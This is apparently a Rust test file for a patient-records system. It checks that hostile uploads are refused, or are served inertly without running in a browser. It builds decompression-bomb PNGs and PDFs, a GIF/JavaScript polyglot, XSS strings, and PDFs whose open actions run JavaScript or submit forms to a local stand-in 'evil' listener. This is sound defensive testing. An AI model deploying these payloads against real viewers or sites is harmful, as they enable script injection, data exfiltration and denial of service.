//! Files that mean harm: what is refused, and that nothing of what is taken runs in a browser that opens it. Ordinary ones are seen.

use std::net::TcpListener;

use fantoccini::Locator;
use serde_json::json;
use verbund_node::{
    cli::demo::browser::{Answer, Browser},
    domain::{account::Site, actor::Role},
};
use verbund_protocol::id::LocalId;
use verbund_tests::chromium::{Look, Window};

use super::{
    House,
    chromium::{at, window_of},
    papers::{form, send_to, stored},
};

/// CRC-32 as PNG has it.
fn crc(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(u32::MAX, |sum, byte| (0..8).fold(sum ^ u32::from(*byte), |sum, _| if sum & 1 == 1 { sum >> 1 ^ 0xEDB8_8320 } else { sum >> 1 }))
}

/// Zeros, packed as DEFLATE packs them best: one literal, then repeats of 258 bytes in 13 bits each; in the frame of zlib.
fn zeros(count: usize) -> Vec<u8> {
    let (mut bits, mut held, mut out) = (0_u64, 0, vec![0x78, 0x01]);
    let mut put = |value: u64, length: u32| {
        bits |= value << held;
        held += length;
        while held >= 8 {
            out.push(u8::try_from(bits & 0xFF).unwrap());
            bits >>= 8;
            held -= 8;
        }
    };
    // The last block, with the fixed codes. Codes stand in it beginning with their highest bit: 0 is 00110000, a repeat of 258 is 11000101.
    put(0b011, 3);
    put(0b0000_1100, 8);
    for _ in 0..(count - 1) / 258 {
        put(0b1010_0011, 8);
        put(0, 5);
    }
    for _ in 0..(count - 1) % 258 {
        put(0b0000_1100, 8);
    }
    put(0, 7 + 7);
    let sum = u32::try_from(count % 65_521).unwrap() << 16 | 1;
    out.extend(sum.to_be_bytes());
    out
}

/// A black picture that says it has these sides, one bit a pixel.
pub(super) fn png(width: u32, height: u32) -> Vec<u8> {
    let chunk = |kind: &[u8; 4], data: &[u8]| {
        let body = [&kind[..], data].concat();
        [&u32::try_from(data.len()).unwrap().to_be_bytes()[..], &body, &crc(&body).to_be_bytes()].concat()
    };
    let header = [&width.to_be_bytes()[..], &height.to_be_bytes(), &[1, 0, 0, 0, 0]].concat();
    let rows = (usize::try_from(width).unwrap().div_ceil(8) + 1) * usize::try_from(height).unwrap();
    [&b"\x89PNG\r\n\x1a\n"[..], &chunk(b"IHDR", &header), &chunk(b"IDAT", &zeros(rows)), &chunk(b"IEND", b"")].concat()
}

/// A page whose content is `stream`, packed as `packed` says, and which does `action` when it is opened.
fn pdf(packed: &str, stream: &[u8], action: &str) -> Vec<u8> {
    let content = [format!("<< /Length {} {packed} >>\nstream\n", stream.len()).as_bytes(), stream, b"\nendstream"].concat();
    let objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R >>".to_vec(),
        content,
        action.as_bytes().to_vec(),
    ];
    let (mut out, mut places) = (b"%PDF-1.7\n".to_vec(), String::new());
    for (nth, object) in objects.iter().enumerate() {
        places.push_str(&format!("{:010} 00000 n \n", out.len()));
        out.extend([format!("{} 0 obj\n", nth + 1).as_bytes(), object, b"\nendobj\n"].concat());
    }
    let end = format!("xref\n0 6\n0000000000 65535 f \n{places}trailer\n<< /Root 1 0 R /Size 6 >>\nstartxref\n{}\n%%EOF\n", out.len());
    [out, end.into_bytes()].concat()
}

/// A red page that goes to its own beginning when it is opened, as many ordinary ones do.
pub(super) fn red(action: &str) -> Vec<u8> {
    pdf("", b"1 0 0 rg 0 0 300 300 re f", action)
}

pub(super) const ORDINARY: &str = "<< /S /GoTo /D [3 0 R /Fit] >>";

/// Somebody at a ward who adds documents.
struct Ward {
    house: House,
    wanda: Browser,
    patient: LocalId,
}

impl Ward {
    fn new() -> Self {
        let mut house = House::new();
        let patient = house.patient("Erna");
        let (wanda, _) = house.staff("wanda", &[Role::Ward]);
        Self { house, wanda, patient }
    }

    fn add(&mut self, name: &str, bytes: &[u8]) -> Answer {
        let path = format!("/patients/{}/documents", self.patient);
        let token = self.wanda.get(&path).unwrap().hidden("form").unwrap();
        send_to(&mut self.wanda, &path, &form(&[("form", token.as_str()), ("kind", "ED110112"), ("title", name)], Some((name, bytes))))
    }

    /// Adds a document that is taken, and returns its address.
    fn taken(&mut self, name: &str, bytes: &[u8]) -> String {
        let page = self.add(name, bytes).text();
        let line = page.split("href=\"/documents/").find(|line| line.contains(&format!(">{name}</a>"))).unwrap_or_else(|| panic!("{name} was not taken: {page}"));
        format!("/documents/{}", line.split('"').next().unwrap())
    }
}

/// How many pixels of a colour there are in a picture of what a window shows. A browser reads it: `lens`.
async fn pixels(window: &Window, lens: &Window, is: &str) -> u64 {
    let shot = window.command("POST", "goog/cdp/execute", json!({ "cmd": "Page.captureScreenshot", "params": { "format": "png" } })).await;
    let script = format!(
        "const done = arguments[1];
        const picture = new Image();
        picture.onload = () => {{
          const canvas = new OffscreenCanvas(picture.width, picture.height).getContext('2d');
          canvas.drawImage(picture, 0, 0);
          const all = canvas.getImageData(0, 0, picture.width, picture.height).data;
          let count = 0;
          for (let at = 0; at < all.length; at += 4) {{ const [r, g, b] = [all[at], all[at + 1], all[at + 2]]; if ({is}) count += 1; }}
          done(count);
        }};
        picture.src = 'data:image/png;base64,' + arguments[0];"
    );
    let counted = lens.client.execute_async(&script, vec![shot["data"].clone()]).await.unwrap();
    counted.as_u64().unwrap()
}

/// Waits until a window shows many pixels of a colour.
pub(super) async fn sees(window: &Window, lens: &Window, is: &str, what: &str) {
    let begun = std::time::Instant::now();
    loop {
        let count = pixels(window, lens, is).await;
        if count > 20_000 {
            return;
        }
        assert!(begun.elapsed() < std::time::Duration::from_secs(60), "{what} is not seen: {count} pixels");
    }
}

pub(super) const RED: &str = "r > 240 && g < 15 && b < 15";
pub(super) const BLACK: &str = "r + g + b == 0";

/// What is taken is seen by whoever follows the link: pages and pictures, on a phone, too.
#[tokio::test(flavor = "multi_thread")]
async fn documents_are_seen_in_the_browser() {
    let mut ward = Ward::new();
    let documents = [(ward.taken("brief.pdf", &red(ORDINARY)), RED), (ward.taken("bild.png", &png(600, 600)), BLACK)];
    let lens = Window::open(Look::PHONE).await;
    let window = window_of(&ward.wanda, Look::DESKTOP).await;
    for (path, is) in documents {
        window.go(&at(&ward.house, Site::Staff, &format!("/patients/{}/documents", ward.patient))).await;
        assert_eq!(pixels(&window, &lens, is).await / 20_000, 0, "nothing of it is on the page before");
        window.click(&format!("a[href='{path}']")).await;
        sees(&window, &lens, is, &path).await;
        assert!(window.client.current_url().await.unwrap().path() == path);
    }
    window.close().await;
    lens.close().await;
}

/// What is surely no document, or would hurt whoever opens it, is refused in words.
#[test]
fn bombs_that_show_and_files_that_are_something_else_are_refused() {
    let mut ward = Ward::new();
    let gif = b"GIF89a/*\x01\x00\x80\x00\x00*/=1;alert(document.domain)//";
    let other = "Diese Datei wird nicht angenommen";
    for (name, bytes, said) in [
        ("bild.png", png(20_000, 10_000), "Dieses Bild hat zu viele Bildpunkte"),
        ("bild.png", [&b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\x7f\xff\xff\xff\x7f\xff\xff\xff\x08\x06\0\0\0"[..], b"tiny"].concat(), "Dieses Bild hat zu viele Bildpunkte"),
        ("bild.gif", gif.to_vec(), other),
        ("bild.png", gif.to_vec(), other),
        ("brief.pdf", [&b"<!--"[..], &red(ORDINARY), b"--><script>alert(1)</script>"].concat(), other),
        ("brief.pdf", [&b"PK\x03\x04"[..], &red(ORDINARY)].concat(), other),
        ("brief.txt", red(ORDINARY), other),
        ("notiz.txt", b"Gru\xc3\x9f <svg onload=alert(1)>".to_vec(), other),
        ("befund.xml", b"<?xml version=\"1.0\"?><x xmlns:h=\"http://www.w3.org/1999/xhtml\"><h:script/><script>alert(1)</script></x>".to_vec(), other),
    ] {
        let answer = ward.add(name, &bytes).text();
        assert!(answer.contains(said) && answer.contains("role=\"alert\"") && answer.contains(&format!("value=\"{name}\"")), "{name}: {answer}");
    }
    assert_eq!(stored(&ward.house), 0, "nothing of what was refused is kept");
}

/// What cannot be seen from outside is kept as it is, unopened, and goes out so that a browser neither runs it nor takes it for a page.
#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_was_taken_runs_where_it_is_opened() {
    let mut ward = Ward::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let evil = format!("http://{}", listener.local_addr().unwrap());
    let script = format!("<script>document.title='hacked';fetch('{evil}/page');document.cookie='hacked=1'</script>");
    let run = format!("<< /S /JavaScript /JS (try {{ app.launchURL\\('{evil}/launch', false\\) }} catch \\(e\\) {{}} this.submitForm\\('{evil}/form'\\)) >>");
    let bomb = 128 << 20;
    let page = ("application/pdf", "inline; filename=\"dokument.pdf\"");
    let picture = ("image/png", "inline; filename=\"dokument.png\"");
    let hostile = [
        ("bombe.pdf", pdf("/Filter /FlateDecode", &zeros(bomb), ORDINARY), page),
        ("skript.pdf", red(&run), page),
        ("fort.pdf", red(&format!("<< /S /URI /URI ({evil}/uri) >>")), page),
        ("sende.pdf", red(&format!("<< /S /SubmitForm /F ({evil}/submit) >>")), page),
        ("adresse.pdf", red(&format!("<< /S /URI /URI (javascript:fetch\\('{evil}/js'\\)) >>")), page),
        ("seite.pdf", [red(ORDINARY), script.clone().into_bytes()].concat(), page),
        ("archiv.pdf", [red(ORDINARY), b"PK\x03\x04\x14\0\0\0\x08\0".to_vec()].concat(), page),
        ("bombe.png", png(8_000, 8_000), picture),
        ("seite.png", [png(600, 600), script.clone().into_bytes()].concat(), picture),
        ("notiz.txt", ["Notiz. ".repeat(2_000).into_bytes(), script.clone().into_bytes()].concat(), ("text/plain", "attachment; filename=\"dokument.txt\"")),
    ];
    let before = ward.house.town.node(0).resident_mib().unwrap();
    let mut paths = Vec::new();
    for (name, bytes, (kind, how)) in &hostile {
        let path = ward.taken(name, bytes);
        let sent = ward.wanda.get(&path).unwrap();
        assert_eq!(sent.body, *bytes, "{name} is kept as it was given");
        let header = |name: &str| sent.header(name).unwrap_or_default();
        assert_eq!((header("content-type"), header("content-disposition"), header("x-content-type-options")), (*kind, *how, "nosniff"), "{name}");
        let policy = header("content-security-policy");
        assert!(policy.contains("default-src 'none'") && !policy.contains("script-src") && policy.contains("sandbox") != kind.ends_with("pdf"), "{name}: {policy}");
        paths.push(path);
    }
    let after = ward.house.town.node(0).resident_mib().unwrap();
    assert!(after < before + 100.0, "what unpacks to {bomb} bytes is not unpacked here: from {before} to {after} MiB");
    let window = window_of(&ward.wanda, Look::DESKTOP).await;
    let lens = Window::open(Look::PHONE).await;
    // What is saved instead of shown is none of the browser's.
    for ((name, _, (kind, _)), path) in hostile.iter().zip(&paths).filter(|((_, _, (kind, _)), _)| *kind != "text/plain") {
        let list = at(&ward.house, Site::Staff, &format!("/patients/{}/documents", ward.patient));
        window.go(&list).await;
        window.click(&format!("a[href='{path}']")).await;
        // Where it is shown it was opened. How far a browser comes with what unpacks to so much is its own affair.
        if !name.starts_with("bombe") {
            sees(&window, &lens, if kind.ends_with("pdf") { RED } else { BLACK }, name).await;
        }
        assert_ne!(window.client.title().await.unwrap(), "hacked", "{name}");
        window.go(&list).await;
        window.read("Unterlagen").await;
        let cookies = window.client.get_all_cookies().await.unwrap();
        assert!(!cookies.iter().any(|cookie| cookie.name() == "hacked"), "{name}");
        assert!(window.client.find(Locator::Css("form[action='/sign-out']")).await.is_ok(), "{name}: she is still signed in");
    }
    assert!(listener.accept().is_err(), "somebody was called by what was opened");
    window.close().await;
    lens.close().await;
}
